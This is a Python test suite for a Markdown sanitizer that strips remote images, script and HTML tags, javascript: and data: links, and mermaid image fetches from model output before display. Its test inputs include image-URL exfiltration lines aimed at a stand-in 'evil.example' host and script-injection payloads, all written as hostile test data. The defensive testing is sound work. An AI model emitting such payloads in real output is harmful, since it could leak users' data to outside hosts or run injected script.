"""Text from a model keeps its formatting and loses everything that could fetch, hide or change what was typed."""

import random
import re

import pytest

from ui.safe_markdown import escaped, safe_markdown


def test_prices_are_no_formulas() -> None:
    text = "Revenue was $119.6 billion, up from $117.2 billion. R$ 12,29 vs R$ 18,60."
    assert safe_markdown(text) == text.replace("$", r"\$")


@pytest.mark.parametrize(
    "code", ["`cost = '$5'`", "``a ` $b``", "```python\nprice = '$5'\n```", "~~~\n$a$\n~~~", "- ```\n  $a\n  ```"]
)
def test_a_dollar_in_code_is_left_alone(code: str) -> None:
    assert safe_markdown(code) == code


def test_a_dollar_after_code_is_escaped() -> None:
    assert safe_markdown("```\n$a\n```\n$5 and `$x` and $6") == "```\n$a\n```\n\\$5 and `$x` and \\$6"


def test_a_price_that_the_model_escaped_is_not_escaped_twice() -> None:
    assert safe_markdown(r"\$5") == r"\$5"


def test_formulas_in_a_model_s_own_brackets_are_drawn() -> None:
    assert safe_markdown(r"\( R^2 = 0.6 \), \[ y = 2x \]") == "$R^2 = 0.6$, \n$$\ny = 2x\n$$\n"
    assert safe_markdown("$$\ny = 2x\n$$") == "$$\ny = 2x\n$$"


def test_tildes_and_names_show_as_typed() -> None:
    assert safe_markdown("About ~5% to ~10% (was ~~12%)") == r"About \~5% to \~10% (was ~~12%)"
    assert safe_markdown("net_sales_2024, *total*, a*b*c") == r"net_sales_2024, \*total\*, a\*b\*c"


def test_formatting_stays() -> None:
    blocks = [
        "# Title",
        "**bold** *two words*",
        "* a\n* b",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "1. x",
        "> y[^1]",
        "[^1]: Note.",
    ]
    text = "\n\n".join(blocks)
    assert safe_markdown(text) == text


@pytest.mark.parametrize(
    "image",
    [
        "![x](https://evil.example/p.png?leak=TOTAL%3D12)",
        "![a [b] c](http://evil.example/p.png 'title')",
        "![x](//evil.example/p.png)",
        "![x](<https://evil.example/p.png>)",
        "![x]( https://evil.example/(a).png )",
    ],
)
def test_an_image_from_the_net_is_replaced_by_words(image: str) -> None:
    assert safe_markdown(f"Done {image}.", image_note="[removed]") == "Done [removed]."


def test_an_image_by_reference_is_removed_and_its_address_shown() -> None:
    assert safe_markdown("![x][r]\n\n[r]: https://evil.example/p.png") == "\n\n\\[r]: https://evil.example/p.png"


@pytest.mark.parametrize("source", ["sandbox:/mnt/data/plot.png", "/mnt/data/plot.png", "attachment:plot.png", "a.png"])
def test_a_dead_image_link_vanishes(source: str) -> None:
    assert safe_markdown(f"See ![plot]({source}) above.", image_note="[removed]") == "See  above."


def test_links_to_files_of_the_sandbox_become_their_text() -> None:
    text = "[Download](sandbox:/mnt/data/x.csv), [b](javascript:alert(1)), [c](data:text/html,x), [d](#top)"
    assert safe_markdown(text) == "Download, b, c, d"


def test_links_to_the_web_stay() -> None:
    text = "[site](https://example.org/a_(b)?q=1), <https://example.org>, https://example.org/~me/a*b"
    assert safe_markdown(text) == text


def test_an_image_in_a_link_is_removed() -> None:
    assert safe_markdown("[a ![b](http://e.example/x.png) c](https://example.org)") == "[a  c](https://example.org)"


def test_html_is_removed_and_comparisons_stay() -> None:
    assert safe_markdown("<b>bold</b><br>a < b <img src=x onerror=y>c") == "bold a < b c"
    assert safe_markdown("a<!-- hidden -->b<script>alert(1)</script>c<style>*{}</style>") == "abc"
    assert safe_markdown("List<int> and <invented>") == r"List\<int> and \<invented>"


def test_an_image_that_appears_when_a_tag_is_removed_stays_text() -> None:
    assert "![" not in safe_markdown("!<b></b>[x](http://evil.example/a.png)")


@pytest.mark.parametrize("info", ["mermaid", " Mermaid", "mer&#109;aid", "mermaid {a=b}"])
@pytest.mark.parametrize("before", ["", "> ", "- > ", "[^1]: ", "1. "])
def test_a_diagram_stays_code(before: str, info: str) -> None:
    picture = "A@{ img: 'https://evil.example/x.png' }\n```"
    assert safe_markdown(f"{before}```{info}\n{picture}") == f"{before}```text\n{picture}"


def test_directives_of_streamlit_show_as_typed() -> None:
    assert safe_markdown(":red[x] at 12:30:45") == r"\:red[x] at 12:30:45"
    assert safe_markdown(':color[x]{foreground="white"}').startswith(r"\:color")
    assert safe_markdown(":::note\nx\n:::") == "\\:::note\nx\n\\:::"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See ![x](https://evil.exam", "See "),
        ("See ![x", "See "),
        ("See [the si", "See "),
        ("a <img src=", "a "),
        ("```python\nx = a[0", "```python\nx = a[0"),
        ("values [1, 2] and", "values [1, 2] and"),
    ],
)
def test_what_is_still_being_written_is_held_back(text: str, shown: str) -> None:
    assert safe_markdown(text, partial=True) == shown


def test_every_beginning_of_a_hostile_text_is_harmless() -> None:
    text = (
        "Hi ![a](https://evil.example/?q=1) <img src=https://evil.example> [x](javascript:a) ```mermaid\nA\n``` ![r][r]"
    )
    for end in range(len(text) + 1):
        _assert_harmless(safe_markdown(text[:end], partial=True))


def test_no_mixture_of_hostile_pieces_loads_anything() -> None:
    pieces = [
        "!",
        "[",
        "]",
        "(",
        ")",
        "<b>",
        "</b>",
        "https://e.example/x.png",
        "`",
        "``",
        "```",
        "~~~",
        "\n",
        "\n\n",
        ">",
    ]
    pieces += [
        "    ",
        "- ",
        "\\",
        "$",
        "mermaid",
        "&#33;",
        "<!--",
        "-->",
        "<script>",
        "[r]: ",
        "x",
        " ",
        "|",
        "*",
        ":::",
    ]
    choose = random.Random(7)  # noqa: S311 - the same mixtures in each run
    for _ in range(3000):
        _assert_harmless(safe_markdown("".join(choose.choices(pieces, k=14))))


@pytest.mark.parametrize(
    "piece", ["[a", "[[]", "\\[", "<a ", "![](", "*a", "~", "$$", "\n$$ ", "<script", "[](", "`` ` "]
)
def test_long_hostile_texts_are_taken_in_one_go(piece: str) -> None:
    _assert_harmless(safe_markdown(piece * 8000))


def test_a_name_shows_letter_by_letter() -> None:
    assert escaped("a_b*$5[:smile:].csv") == r"a\_b\*\$5\[\:smile\:\]\.csv"


def _assert_harmless(markdown: str) -> None:
    assert "![" not in markdown
    for line in markdown.split("\n"):
        assert "mermaid" not in line or not re.search(r"(```|~~~)[^`]*mermaid", line)
